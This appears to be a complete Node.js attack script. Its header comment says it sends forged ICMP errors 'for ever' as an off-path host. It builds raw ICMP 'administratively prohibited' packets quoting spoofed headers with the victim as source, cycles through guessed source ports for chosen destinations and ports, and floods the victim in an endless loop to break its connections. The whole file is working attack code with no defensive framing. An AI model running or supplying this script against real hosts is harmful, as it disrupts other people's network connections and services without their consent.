// Sends forged ICMP errors for ever, as a host that sees none of the packets it speaks of: it tries out source ports.
// Argument: JSON { victim, destinations, ports, protocol, first, last }. Over IPv4 "administratively prohibited".
import { createRequire } from "node:module";

const raw = createRequire(import.meta.url)("raw-socket");
const { victim, destinations, ports, protocol, first, last } = JSON.parse(process.argv[2]);
const socket = raw.createSocket({ protocol: raw.Protocol.ICMP, addressFamily: raw.AddressFamily.IPv4 });

const bytesOf = (address) => address.split(".").map(Number);
const packets = [];
for (let source = first; source <= last; source += 1) {
  for (const destination of destinations) {
    for (const port of ports) {
      const header = Buffer.alloc(20);
      header[0] = 0x45;
      header.writeUInt16BE(40, 2);
      header[8] = 60;
      header[9] = protocol;
      header.set(bytesOf(victim), 12);
      header.set(bytesOf(destination), 16);
      const quoted = Buffer.alloc(8);
      quoted.writeUInt16BE(source, 0);
      quoted.writeUInt16BE(port, 2);
      quoted.writeUInt32BE(0x1234_5678, 4); // a sequence number; of UDP a length and a checksum
      const packet = Buffer.concat([Buffer.from([3, 13, 0, 0, 0, 0, 0, 0]), header, quoted]);
      raw.writeChecksum(packet, 2, raw.createChecksum(packet));
      packets.push(packet);
    }
  }
}
process.stdout.write("forging\n");
const round = (at) => {
  for (let index = at; index < Math.min(at + 200, packets.length); index += 1) {
    try {
      socket.wrap.send(packets[index], 0, packets[index].length, victim, () => undefined);
    } catch {
      // the buffer is full: this one is not sent
    }
  }
  setTimeout(round, 5, at + 200 < packets.length ? at + 200 : 0);
};
round(0);
